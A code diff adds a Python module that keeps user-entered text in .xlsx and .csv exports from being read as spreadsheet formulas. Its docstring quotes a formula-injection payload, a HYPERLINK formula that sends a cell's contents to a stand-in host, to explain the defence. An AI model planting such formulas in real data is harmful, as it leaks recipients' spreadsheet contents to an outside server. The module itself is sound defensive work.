@@ -1,0 +1,51 @@
+"""Text put into the spreadsheets we write stays text: never a formula, in .xlsx and .csv.
+
+A product name, a producer's name or a commune is typed by whoever registers it. Written
+as is, `=HYPERLINK("http://x?d="&M2,"x")` would become a live formula on the officer's
+computer (formula injection). Every writer of an .xlsx or .csv goes through this module.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable
+from typing import Any
+
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
+from openpyxl.worksheet.worksheet import Worksheet
+
+# A cell starting with one of these may be read as a formula by a spreadsheet program.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# A plain number such as a Telegram group's chat id (-1001234) is not a formula; quoting it
+# would only spoil the number.
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
+
+
+def xlsx_value(value: Any) -> Any:
+    """A value as openpyxl may store it: text without the characters XML cannot hold."""
+    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
+
+
+def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
+    """Append a row to an .xlsx sheet; text cells are stored as text, exactly as given."""
+    cells = []
+    for value in values:
+        cell = Cell(sheet, value=xlsx_value(value))
+        if isinstance(cell.value, str):
+            cell.data_type = "s"  # openpyxl would store "=…" as a formula
+        cells.append(cell)
+    sheet.append(cells)
+
+
+def csv_cell(value: Any) -> Any:
+    """A CSV cell: text that a spreadsheet could run as a formula gets a leading `'`."""
+    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
+        return value
+    if _PLAIN_NUMBER.fullmatch(value):
+        return value
+    return "'" + value
+
+
+def csv_row(values: Iterable[Any]) -> list[Any]:
+    """A CSV row with every cell made safe by `csv_cell`."""
+    return [csv_cell(value) for value in values]
